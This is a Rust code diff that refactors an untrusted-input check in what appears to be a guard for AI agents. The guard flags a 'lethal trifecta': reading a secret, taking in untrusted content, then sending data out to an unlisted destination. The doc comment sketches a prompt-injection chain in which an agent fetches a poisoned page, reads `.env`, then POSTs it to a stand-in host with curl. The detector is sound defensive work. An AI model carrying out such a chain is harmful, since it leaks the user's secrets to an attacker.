@@ -16,7 +16,6 @@
 //! **Example:** WebFetch a poisoned page, Read `.env`, then `curl -X POST https://c.example`
 //! → `lethal_trifecta`.
 
-use crate::action::Provenance;
 use crate::verdict::{Finding, Reason, Verdict};
 
 use super::Ctx;
@@ -85,7 +84,7 @@ pub fn is_trifecta(cx: &Ctx<'_>) -> bool {
             .reads
             .iter()
             .any(|r| secret_of_read(&r.path, r.recursive, cx.home()).is_some());
-    let untrusted = cx.session.tainted || cx.action.provenance == Provenance::Untrusted;
+    let untrusted = cx.untrusted();
     sensitive && untrusted && unlisted_egress(cx).is_some()
 }
 
@@ -112,7 +111,7 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
     let mode = cx.mode();
     // Publishing after a secret read, or after untrusted content came in (the page that asks
     // for a release is the attack).
-    let untrusted = cx.session.tainted || cx.action.provenance == Provenance::Untrusted;
+    let untrusted = cx.untrusted();
     if (cx.session.secret_read || untrusted)
         && cx
             .shell
@@ -143,7 +142,7 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
         };
         out.push(Finding::new(EGRESS_AFTER_SECRET, v));
     }
-    if cx.session.tainted || cx.action.provenance == Provenance::Untrusted {
+    if cx.untrusted() {
         let by = if uploads {
             [Pass, Auth, Auth, Auth]
         } else {
